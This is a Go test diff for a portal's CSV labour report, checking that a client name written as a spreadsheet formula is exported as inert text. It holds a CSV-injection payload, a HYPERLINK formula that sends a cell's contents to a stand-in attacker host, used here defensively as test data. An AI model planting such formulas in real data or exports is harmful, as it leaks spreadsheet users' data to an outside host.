@@ -2,6 +2,7 @@ package portal_test
 
 import (
 	"context"
+	"encoding/csv"
 	"fmt"
 	"net/http"
 	"net/url"
@@ -188,5 +189,34 @@ func TestOpsSessionsEnd(t *testing.T) {
 	}
 	if in(thief) || in(c) {
 		t.Fatal("an ops session survived a new password")
+	}
+}
+
+// TestCSVCellsNeverRunInASpreadsheet: a client who names themself as a
+// formula appears in the labour report's CSV as text.
+func TestCSVCellsNeverRunInASpreadsheet(t *testing.T) {
+	w := newInsightWorld(t)
+	evil := `=HYPERLINK("http://evil.test/?"&A1,"Click")`
+	if r := w.api(t, w.ca, "PUT", "/profile", map[string]any{"name": evil, "surname": ""}); r.Status != 200 {
+		t.Fatalf("profile: %d %s", r.Status, r.Body)
+	}
+	n := w.ticket(t, w.ca)
+	w.log(t, w.op, n, map[string]any{"work_type": "Consultation", "quantity": "1", "comment": "+1+2"})
+	c := w.api(t, w.admin, "GET", "/reports/labour?from=2026-05-01&to=2026-05-04&format=csv&table=clients", nil)
+	rows, err := csv.NewReader(strings.NewReader(c.Body)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, row := range rows {
+		for _, cell := range row {
+			if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "@") {
+				t.Errorf("a cell a spreadsheet would run: %q", cell)
+			}
+			found = found || cell == "'"+evil
+		}
+	}
+	if !found {
+		t.Fatalf("the client's name is not in the CSV as text: %v", rows)
 	}
 }
